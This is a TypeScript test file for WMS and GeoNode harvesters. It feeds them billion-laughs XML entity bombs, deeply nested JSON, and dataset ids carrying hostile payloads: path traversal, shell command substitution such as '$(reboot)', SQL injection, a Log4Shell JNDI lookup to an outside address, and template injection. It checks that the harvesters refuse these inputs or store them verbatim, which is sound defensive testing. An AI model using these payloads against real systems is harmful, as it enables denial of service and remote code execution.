/** Documents that are not on the list of bad inputs: XML and JSON that want time, memory or a prototype, and ids that want to be paths. */
import { expect, test } from 'vitest';
import { geonode } from '../../lib/harvesters/geonode.ts';
import type { Listing } from '../../lib/harvesters/harvester.ts';
import { wms } from '../../lib/harvesters/wms.ts';
import { makeRig, reply } from '../lambdas/rig.ts';
import { textReply } from '../harvesters/replies.ts';
import { measured } from './measured.ts';

const URL_HARVESTED = 'https://remote.example/x';

function capabilities(body: string | Uint8Array, contentType = 'text/xml'): Listing {
  const settings = wms.settings.parse({});
  const request = wms.firstListing(URL_HARVESTED, settings);
  const answer = textReply(body, { url: URL_HARVESTED, headers: { 'content-type': contentType } });
  return wms.readListing({ url: URL_HARVESTED, settings, request }, answer);
}
const titlesOf = (listing: Listing) => listing.resources.map(({ title }) => title);
const wmsOf = (title: string, before = '', more = '') =>
  `${before}<WMS_Capabilities version="1.3.0"><Service><Title>S</Title></Service><Capability><Layer><Name>a</Name><Title>${title}</Title>${more}</Layer></Capability></WMS_Capabilities>`;

function listing(body: string): Listing {
  const settings = geonode.settings.parse({});
  const request = geonode.firstListing(URL_HARVESTED, settings);
  return geonode.readListing(
    { url: URL_HARVESTED, settings, request },
    textReply(body, { url: request.url, headers: { 'content-type': 'application/json' } }),
  );
}

const PARAMETER_LAUGHS = `<!DOCTYPE WMS_Capabilities [<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;">%c;]>`;

test.each<[string, string | Uint8Array, RegExp]>([
  ['laughs by parameter entities', wmsOf('A', PARAMETER_LAUGHS), /declares entities of its own|DOCTYPE/],
  [
    'laughs in an attribute default',
    wmsOf('A', '<!DOCTYPE WMS_Capabilities [<!ENTITY a "aa"><!ATTLIST Layer x CDATA "&a;&a;">]>'),
    /declares entities of its own|DOCTYPE/,
  ],
  [
    'laughs in UTF-16',
    Buffer.from(`\ufeff${wmsOf('&a;', '<!DOCTYPE WMS_Capabilities [<!ENTITY a "aaaa">]>')}`, 'utf16le'),
    /declares entities of its own|DOCTYPE/,
  ],
  [
    'an entity that is itself',
    wmsOf('&a;', '<!DOCTYPE WMS_Capabilities [<!ENTITY a "&a;">]>'),
    /declares entities of its own|DOCTYPE/,
  ],
  ['a DOCTYPE in small letters', wmsOf('A', '<!doctype x [<!entity a "b">]>'), /./],
  ['a null document', '\u0000'.repeat(1_000_000), /./],
  ['a million open tags', '<a>'.repeat(1_000_000), /./],
  ['a million comments', wmsOf('A', '<!---->'.repeat(1_000_000)).slice(0, -5), /./],
  ['a tag of four megabytes', `<${'a'.repeat(4_000_000)}>`, /./],
  ['a processing instruction without end', `<?${'x '.repeat(2_000_000)}`, /./],
])('XML: %s is refused within its bounds', (_what, body, error) => {
  const outcome = measured(() => capabilities(body));
  expect(outcome.error).toMatch(/^RemoteUnreadable: /);
  expect(outcome.error).toMatch(error);
  expect(outcome.error.length).toBeLessThan(700);
  expect(outcome.cpuSeconds).toBeLessThan(3);
});

test.each<[string, string | Uint8Array, string | undefined]>([
  [
    'UTF-16 that says it is UTF-8',
    Buffer.from(`\ufeff${wmsOf('café', '<?xml version="1.0" encoding="UTF-8"?>')}`, 'utf16le'),
    undefined,
  ],
  [
    'UTF-8 that says it is UTF-16',
    Buffer.from(wmsOf('café', '<?xml version="1.0" encoding="UTF-16"?>')),
    undefined,
  ],
  [
    'UTF-8 with a mark that says it is latin1',
    Buffer.from(`\ufeff${wmsOf('café', '<?xml version="1.0" encoding="ISO-8859-1"?>')}`),
    undefined,
  ],
  [
    'UTF-8 with a mark, under a header that says UTF-16',
    Buffer.from(`\ufeff${wmsOf('café')}`),
    'text/xml; charset=utf-16',
  ],
  [
    'an encoding that nobody knows',
    Buffer.from(wmsOf('café', '<?xml version="1.0" encoding="x-klingon"?>')),
    undefined,
  ],
])('XML: %s is read as what it is', (_what, body, contentType) => {
  expect(titlesOf(capabilities(body, contentType))).toEqual(['café']);
});

test('XML: marks that turn the direction of writing stay what they are: a text, whose name is not another', () => {
  expect(titlesOf(capabilities(wmsOf('\u202egpj.exe\u202c')))).toHaveLength(1);
});

const entries = (count: number, of: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => of(n)).join();
const page = (inside: string) => `{"links":{"next":null},"total":0,"resources":[],${inside}}`;

test.each<[string, () => string, RegExp | number]>([
  ['a million keys', () => page(entries(1_000_000, (n) => `"k${n}":${n}`)), 0],
  ['the same key a million times', () => page(entries(1_000_000, (n) => `"total":${n}`)), 0],
  ['a list of five million zeros', () => page(`"a":[${'0,'.repeat(5_000_000)}0]`), 0],
  [
    'arrays in arrays within a key',
    () => page(`"a":${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    /nested deeper/,
  ],
  ['objects in objects', () => `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`, /nested deeper/],
  ['brackets inside a text', () => page(`"a":"${'['.repeat(1_000_000)}"`), 0],
  [
    'escaped quotes before brackets',
    () => page(`"a":"${String.raw`\"`.repeat(500_000)}${'['.repeat(100)}"`),
    0,
  ],
  ['NULs that pad a document', () => `${page('"a":1')}${'\u0000'.repeat(100)}`, 0],
  ['trash after the document', () => `${page('"a":1')} trash`, /RemoteUnreadable/],
  ['a script after the document', () => `${page('"a":1')}<script>alert(1)</script>`, /RemoteUnreadable/],
  ['the prefix of a guard against hijacking', () => `)]}',\n${page('"a":1')}`, /RemoteUnreadable/],
  ['JSONP', () => `callback(${page('"a":1')});`, /RemoteUnreadable/],
  ['single quotes', () => `{'links':{},'total':0,'resources':[]}`, /RemoteUnreadable/],
  ['a comma too many', () => `{"links":{"next":null},"total":0,"resources":[],}`, /RemoteUnreadable/],
  ['a raw line end in a text, as ArcGIS writes it,', () => page('"a":"x\ny"'), 0],
])('JSON: %s ends within its bounds', (_what, make, expected) => {
  const body = make();
  const outcome = measured(() => listing(body));
  if (typeof expected === 'number') expect(outcome.value?.resources).toHaveLength(expected);
  else expect(outcome.error).toMatch(expected);
  expect(outcome.cpuSeconds).toBeLessThan(3);
});

const IDS = [
  'CON',
  'aux.txt',
  'nul',
  'a:b',
  'C:\\Windows\\x',
  '..\\..\\x',
  '....//....//x',
  '%2e%2e%2fx',
  '.',
  '\u202ereversed',
  '\u2066isolated\u2069',
  'a\u200bb',
  'ab',
  '\ufeffab',
  '$(reboot)',
  '`id`',
  "'; DROP TABLE x; --",
  '${jndi:ldap://10.0.0.1/a}',
  '{{7*7}}',
  '-rf',
  '~root',
  'constructor',
  'toString',
  'S#other#S',
];

test('ids that would be devices, paths, commands or keys of others are kept to the letter, and name no key', async () => {
  const rig = await makeRig({ datasets: IDS.length, pageSize: 100 });
  const dataset = (n: number) => ({ pk: String(n), uuid: IDS[n - 1], title: 'T', resource_type: 'dataset' });
  rig.remote.before = ({ url }) => {
    const pk = /\/datasets\/(\d+)\//.exec(url)?.[1];
    return pk === undefined
      ? reply({ links: { next: null }, total: IDS.length, resources: IDS.map((_, n) => dataset(n + 1)) })
      : reply({ dataset: dataset(Number(pk)) }, 200, url);
  };
  const { id, conclusion } = await rig.session();
  expect(conclusion?.counts).toMatchObject({ total: IDS.length, harvested: IDS.length });
  expect(rig.published(id)).toEqual([...IDS].sort());
  for (const key of rig.world.records.keys()) expect(key).toMatch(/^[\w=./-]+$/);
});
